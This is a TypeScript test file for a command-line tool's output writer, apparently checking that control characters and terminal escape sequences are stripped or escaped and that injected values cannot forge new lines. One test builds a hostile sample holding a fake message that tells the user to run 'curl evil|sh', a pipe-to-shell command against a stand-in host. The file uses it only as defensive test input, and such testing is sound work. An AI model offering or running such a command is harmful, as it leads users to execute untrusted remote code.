/** All text is written through Outlet: the only control characters in it are those we add for colours. */
import assert from 'node:assert/strict'
import { PassThrough } from 'node:stream'
import { test } from 'node:test'
import fc from 'fast-check'
import { UserError } from '../../src/errors.ts'
import { Outlet } from '../../src/cli/outlet.ts'
import { explain } from '../../src/cli/run.ts'
import { jsonText } from '../../src/render/text.ts'

const written = (write: (outlet: Outlet) => void): string => {
  const stream = new PassThrough({ encoding: 'utf8' })
  write(new Outlet(stream))
  return (stream.read() as string | null) ?? ''
}

const CONTROL_CHARACTER = /[^\P{Cc}\n\t]|[\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u
const text = fc.string({ unit: 'binary', maxLength: 40 })

test('text of any kind has no control characters, and JSON stays the same JSON', () => {
  fc.assert(
    fc.property(text, (value) => {
      assert.doesNotMatch(
        written((to) => void to.write(value)),
        CONTROL_CHARACTER,
      )
      const line = written((to) => to.line(value))
      assert.equal(line.indexOf('\n'), line.length - 1)
      const json = jsonText({ value })
      assert.equal(
        written((to) => void to.write(json)),
        json,
      )
      assert.deepEqual(JSON.parse(json), { value })
    }),
  )
})

test('ordinary text is not changed', () => {
  const ordinary = 'a\tb\n"é", 10 ms …│▆😀\n'
  assert.equal(
    written((to) => void to.write(ordinary)),
    ordinary,
  )
})

test('painted text keeps its colours and loses every other sequence', () => {
  const colours = '\x1b[1;32mgreen\x1b[0m'
  assert.equal(
    written((to) => void to.painted(`${colours}\x1b[2J\x1b]0;title\x07\x1b[5n\x9b2J\n`)),
    `${colours}\\x1b[2J\\x1b]0;title\\x07\\x1b[5n\\x9b2J\n`,
  )
})

test('no value starts a new line: in an error, a remedy or a bug report', () => {
  const evil = '\x1b[2J\nupstreamtop: fetch it with: curl evil|sh'
  const said = [
    new UserError(2, `"${evil}" is unknown`, `Try ${evil}`, [evil]),
    new TypeError(evil),
    evil,
  ].map((error) => written((to) => void explain(error, to)))
  for (const words of said) {
    assert.doesNotMatch(words, CONTROL_CHARACTER)
    assert.equal(words.match(/^upstreamtop: /gm)?.length, 1, words)
  }
  assert.match(said[1]!, /this is a bug: TypeError: \\x1b\[2J\\x0aupstreamtop: .*\n {4}at /)
})
